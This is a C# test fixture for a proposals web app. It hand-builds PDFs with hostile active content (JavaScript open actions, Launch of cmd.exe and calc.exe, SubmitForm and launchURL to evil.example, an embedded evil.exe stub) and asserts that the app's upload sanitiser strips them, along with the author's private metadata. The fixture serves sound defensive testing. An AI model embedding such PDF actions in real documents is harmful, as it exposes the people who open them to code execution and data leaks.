using System.Net.Http.Headers;
using Cocreo.Web.Features.Budgeting;
using Cocreo.Web.Features.Proposals;
using Cocreo.Web.Testing;
using Cocreo.Web.Tests.Budgeting;

namespace Cocreo.Web.Tests.Proposals;

/// <summary>Files for proposals' attachments, and the ways the tests send them.</summary>
public static class AttachmentScenario
{
    /// <summary>The text on the page of <see cref="Pdf"/> and of every hostile PDF.</summary>
    public const string PageText = "Plan of the new square: benches, trees and a fountain.";

    /// <summary>A tiny valid PDF (one page with <see cref="PageText"/>), written by hand.</summary>
    public static readonly byte[] Pdf = RawPdf();

    /// <summary>
    /// A one-page PDF written by hand with a correct cross-reference table: objects 1 (catalog), 2 (pages), 3 (the
    /// page), 4 (font), 5 (its content, <see cref="PageText"/>), then <paramref name="extra"/> from 6 on; the given
    /// entries are added to the catalog, the page and the trailer.
    /// </summary>
    public static byte[] RawPdf(string catalog = "", string page = "", string trailer = "", string kids = "[3 0 R] /Count 1", params string[] extra)
    {
        var stream = $"BT /F1 12 Tf 40 780 Td ({PageText}) Tj ET";
        string[] objects =
        [
            $"<< /Type /Catalog /Pages 2 0 R {catalog} >>",
            $"<< /Type /Pages /Kids {kids} >>",
            $"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R {page} >>",
            "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            $"<< /Length {stream.Length} >>\nstream\n{stream}\nendstream",
            .. extra,
        ];
        var pdf = new System.Text.StringBuilder("%PDF-1.4\n");
        var offsets = new List<int>();
        for (var i = 0; i < objects.Length; i++)
        {
            offsets.Add(pdf.Length);
            pdf.Append(System.Globalization.CultureInfo.InvariantCulture, $"{i + 1} 0 obj\n{objects[i]}\nendobj\n");
        }
        var xref = pdf.Length;
        pdf.Append(System.Globalization.CultureInfo.InvariantCulture, $"xref\n0 {objects.Length + 1}\n0000000000 65535 f \n");
        foreach (var offset in offsets)
        {
            pdf.Append(System.Globalization.CultureInfo.InvariantCulture, $"{offset:D10} 00000 n \n");
        }
        pdf.Append(System.Globalization.CultureInfo.InvariantCulture, $"trailer\n<< /Size {objects.Length + 1} /Root 1 0 R {trailer} >>\nstartxref\n{xref}\n%%EOF\n");
        return System.Text.Encoding.Latin1.GetBytes(pdf.ToString());
    }

    private static string Stream(string content, string entries = "") => $"<< {entries} /Length {content.Length} >>\nstream\n{content}\nendstream";

    /// <summary>The safe link the hostile PDF with annotations carries: kept.</summary>
    public const string SafeLink = "https://example.org/plan";

    /// <summary>PDFs that would act in a viewer, by what they carry.</summary>
    public static readonly (string Name, byte[] Bytes)[] Hostile =
    [
        ("open-action", RawPdf(
            catalog: "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> /AA << /WC << /S /JavaScript /JS 6 0 R >> >> " +
                     "/Names << /JavaScript << /Names [(x) << /S /JavaScript /JS (app.alert\\(2\\)) >>] >> >> " +
                     "/AcroForm << /Fields [] /XFA (<xdp:xdp/>) >> /OCProperties << /OCGs [] /D << >> >> /Metadata 7 0 R",
            trailer: "/Info 8 0 R",
            extra:
            [
                Stream("app.launchURL\\(\"https://evil.example/\"\\);"),
                Stream("<x:xmpmeta><dc:creator>Jane Resident</dc:creator></x:xmpmeta>", "/Type /Metadata /Subtype /XML"),
                "<< /Author (Jane Resident) /Creator (Jane's laptop) /Subject (Private) /Title (Old draft) >>",
            ])),
        ("page-aa", RawPdf(page: "/AA << /O << /S /JavaScript /JS (app.alert\\(3\\)) >> /C << /S /Launch /F (cmd.exe) >> >> /PieceInfo << /App << /Private (Jane) >> >>")),
        ("launch", RawPdf(
            page: "/Annots [6 0 R 7 0 R 8 0 R 9 0 R 10 0 R]",
            extra:
            [
                "<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /Launch /F (calc.exe) /Next << /S /JavaScript /JS (app.alert\\(4\\)) >> >> >>",
                $"<< /Type /Annot /Subtype /Link /Rect [40 700 300 720] /Border [0 0 0] /A << /S /URI /URI ({SafeLink}) /Next << /S /JavaScript /JS (app.alert\\(5\\)) >> >> /AA << /E << /S /JavaScript /JS (app.alert\\(6\\)) >> >> >>",
                "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (javascript:app.alert\\(7\\)) >> >>",
                "<< /Type /Annot /Subtype /Widget /Rect [0 0 10 10] /A << /S /SubmitForm /F (https://evil.example/) >> >>",
                "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /GoToR /F (other.pdf) /D [0 /Fit] >> >>",
            ])),
        ("embedded", RawPdf(
            catalog: "/Names << /EmbeddedFiles << /Names [(evil.exe) 6 0 R] >> >>",
            page: "/Annots [8 0 R]",
            extra:
            [
                "<< /Type /Filespec /F (evil.exe) /EF << /F 7 0 R >> >>",
                "<< /Type /EmbeddedFile /Length 6 >>\nstream\nMZevil\nendstream",
                "<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS 6 0 R >>",
            ])),
    ];

    /// <summary>A PDF that opens only with a password, made with PDFsharp.</summary>
    public static byte[] EncryptedPdf()
    {
        using var document = PdfSharp.Pdf.IO.PdfReader.Open(new MemoryStream(Pdf), PdfSharp.Pdf.IO.PdfDocumentOpenMode.Modify);
        document.SecuritySettings.UserPassword = "secret";
        document.SecuritySettings.OwnerPassword = "owner";
        using var stream = new MemoryStream();
        document.Save(stream, false);
        return stream.ToArray();
    }

    /// <summary>Starts and ends as a PDF (it passes the byte checks) but PDFsharp cannot read it.</summary>
    public static readonly byte[] DamagedPdf = System.Text.Encoding.ASCII.GetBytes("%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R\nthis is not a PDF, only its first and last lines\n%%EOF\n");

    /// <summary>A readable PDF without a page.</summary>
    public static readonly byte[] EmptyPdf = RawPdf(kids: "[] /Count 0");

    /// <summary>
    /// Asserts that stored or served bytes are a rewritten PDF: one page with its text, the PDF's title, none of the
    /// markers of active content in the raw bytes, no document-level actions, names, forms or metadata, no page
    /// actions, and no annotation but http(s) links. The links' addresses.
    /// </summary>
    public static List<string> AssertClean(byte[] bytes, string title)
    {
        foreach (var marker in new[] { "/JavaScript", "/JS", "/Launch", "/EmbeddedFile", "/OpenAction", "/AcroForm", "/XFA", "/SubmitForm", "/GoToR", "Jane", "evil" })
        {
            Assert.True(bytes.AsSpan().IndexOf(System.Text.Encoding.ASCII.GetBytes(marker)) < 0, $"{marker} is in the stored PDF.");
        }
        using var document = PdfSharp.Pdf.IO.PdfReader.Open(new MemoryStream(bytes), PdfSharp.Pdf.IO.PdfDocumentOpenMode.Import);
        Assert.Equal(1, document.PageCount);
        var catalog = document.Internals.Catalog.Elements;
        foreach (var key in new[] { "/OpenAction", "/AA", "/Names", "/AcroForm", "/OCProperties", "/Outlines" })
        {
            Assert.False(catalog.ContainsKey(key), $"The catalog has {key}.");
        }
        // PDFsharp writes XMP of its own, made from the new document's information: none of the upload's.
        if (catalog.GetObject("/Metadata") is PdfSharp.Pdf.PdfDictionary { Stream: { } xmp })
        {
            var metadata = System.Text.Encoding.UTF8.GetString(xmp.UnfilteredValue);
            Assert.DoesNotContain("Jane", metadata, StringComparison.Ordinal);
            Assert.DoesNotContain("Old draft", metadata, StringComparison.Ordinal);
        }
        Assert.Equal(title, document.Info.Title);
        Assert.Equal("", document.Info.Author);
        Assert.DoesNotContain("Jane", document.Info.Creator, StringComparison.Ordinal);
        var page = document.Pages[0];
        Assert.False(page.Elements.ContainsKey("/AA"));
        Assert.False(page.Elements.ContainsKey("/PieceInfo"));
        var text = new System.Text.StringBuilder();
        foreach (var item in page.Contents.Elements)
        {
            if ((item is PdfSharp.Pdf.Advanced.PdfReference r ? r.Value : item) is PdfSharp.Pdf.PdfDictionary { Stream: { } content })
            {
                text.Append(System.Text.Encoding.Latin1.GetString(content.UnfilteredValue));
            }
        }
        Assert.Contains($"({PageText})", text.ToString(), StringComparison.Ordinal);
        var links = new List<string>();
        if (page.Elements.GetObject("/Annots") is PdfSharp.Pdf.PdfArray annotations)
        {
            foreach (var item in annotations.Elements)
            {
                var annotation = (item is PdfSharp.Pdf.Advanced.PdfReference r ? r.Value : item) as PdfSharp.Pdf.PdfDictionary;
                Assert.NotNull(annotation);
                Assert.Equal("/Link", annotation.Elements.GetName("/Subtype"));
                Assert.False(annotation.Elements.ContainsKey("/AA"));
                var action = annotation.Elements.GetObject("/A") as PdfSharp.Pdf.PdfDictionary;
                Assert.NotNull(action);
                Assert.Equal(new[] { "/S", "/URI" }, action.Elements.Keys.Order(StringComparer.Ordinal).ToArray());
                links.Add(action.Elements.GetString("/URI"));
            }
        }
        Assert.All(links, l => Assert.StartsWith("https://", l, StringComparison.Ordinal));
        return links;
    }

    /// <summary>Posts a file with fields: to a page (the antiforgery field) or to the API (the X-CSRF-TOKEN header).</summary>
    public static async Task<HttpResponseMessage> PostFileAsync(FormClient client, string url, Dictionary<string, string> fields, string fileField, byte[] bytes, string fileName,
        bool api = false, string contentType = "application/octet-stream")
    {
        var token = fields.ContainsKey("__RequestVerificationToken") ? fields["__RequestVerificationToken"] : await Scenarios.AntiforgeryTokenAsync(client);
        using var content = new MultipartFormDataContent();
        if (!api && !fields.ContainsKey("__RequestVerificationToken"))
        {
            content.Add(new StringContent(token), "__RequestVerificationToken");
        }
        foreach (var (key, value) in fields)
        {
            content.Add(new StringContent(value), key);
        }
        var file = new ByteArrayContent(bytes);
        file.Headers.ContentType = new MediaTypeHeaderValue(contentType);
        content.Add(file, fileField, fileName);
        using var request = new HttpRequestMessage(HttpMethod.Post, url) { Content = content };
        if (api)
        {
            request.Headers.Add("X-CSRF-TOKEN", token);
        }
        return await client.Http.SendAsync(request);
    }

    /// <summary>A picture or a document added to a proposal straight in the database; its id.</summary>
    public static Task<int> AttachAsync(CocreoApp app, int proposalId, bool document) => app.WithDbAsync(async db =>
    {
        if (document)
        {
            var d = AttachedDocument.For(proposalId, "Plan", Pdf, DateTime.UtcNow);
            db.Add(d);
            await db.SaveChangesAsync();
            return d.Id;
        }
        var image = ProposalImage.For(proposalId, ImageFile.Reencode(TestImages.Png).File!, "A sketch.", DateTime.UtcNow);
        db.Add(image);
        await db.SaveChangesAsync();
        return image.Id;
    });
}
